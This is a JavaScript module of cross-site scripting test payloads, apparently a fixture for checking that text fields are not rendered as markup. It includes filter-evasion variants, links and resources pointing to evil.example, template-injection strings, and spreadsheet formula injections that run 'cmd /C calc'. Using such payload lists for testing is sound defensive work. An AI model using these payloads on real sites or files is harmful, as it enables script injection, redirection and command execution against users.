// What runs, opens a dialog, fetches from a foreign host or leaves the page, where a text becomes markup.
const RUN = 'window.__xss=1'

/** Short enough for every field, a tag's sixty characters included. */
export const SHORT = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `'onfocus='${RUN}'autofocus='`,
  `</title><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `javascript:${RUN}`,
  `\`\${${RUN}}\``,
  '<base href=//evil.example/>',
  '<img src=//evil.example/a.png>',
  `=HYPERLINK("https://evil.example")`,
]

/** The same by other ways, for fields with room. */
export const LONG = [
  ...SHORT,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt/x>${RUN}</sCrIpT >`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>"></iframe>`,
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  `<form action="https://evil.example/"><button autofocus>x</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `\u2028${RUN}//\u2029${RUN}//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `"}]);${RUN};self.__next_f.push([1,"`,
  `';${RUN};//\\';${RUN};//";${RUN};//`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}} #{${RUN}} <%= ${RUN} %>`,
  `[enlace](javascript:${RUN}) [otro](data:text/html,<script>${RUN}</script>)`,
  `![imagen](https://evil.example/pixel.png) ![x](x"onerror="${RUN})`,
  `<https://evil.example> <javascript:${RUN}> [ref]: javascript:${RUN}`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
]

/** All of them, one a line. */
export const EVERYTHING = LONG.join('\n')
